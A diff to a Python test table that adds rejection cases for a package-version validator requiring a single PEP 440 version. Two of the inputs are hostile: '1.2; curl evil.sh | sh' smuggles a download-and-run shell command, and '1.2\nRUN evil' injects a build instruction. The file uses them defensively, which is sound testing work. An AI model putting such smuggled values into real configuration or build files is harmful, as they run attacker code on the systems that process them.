@@ -577,8 +577,23 @@ ROWS = [
     ),
     broken(
         "a package's version is a text",
-        "requirements.packages.numpy: is 2; expected a package's version",
+        "requirements.packages.numpy: is 2; expected one version by PEP 440: '1.2', '2.6.0+cpu'",
         put(2, "requirements", "packages", "numpy"),
+    ),
+    *(
+        broken(
+            f"a package's version is one version, not {version[:20]}",
+            f"requirements.packages.numpy: is {shown}; expected one version by PEP 440: '1.2', "
+            "'2.6.0+cpu'",
+            put(version, "requirements", "packages", "numpy"),
+        )
+        for version, shown in (
+            ("", "''"),
+            (">=1,<2", "'>=1,<2'"),
+            ("1.*", "'1.*'"),
+            ("1.2; curl evil.sh | sh", "'1.2; curl evil.sh | sh'"),
+            ("1.2\nRUN evil", r"'1.2\nRUN evil'"),
+        )
     ),
     broken(
         "a package has a name",
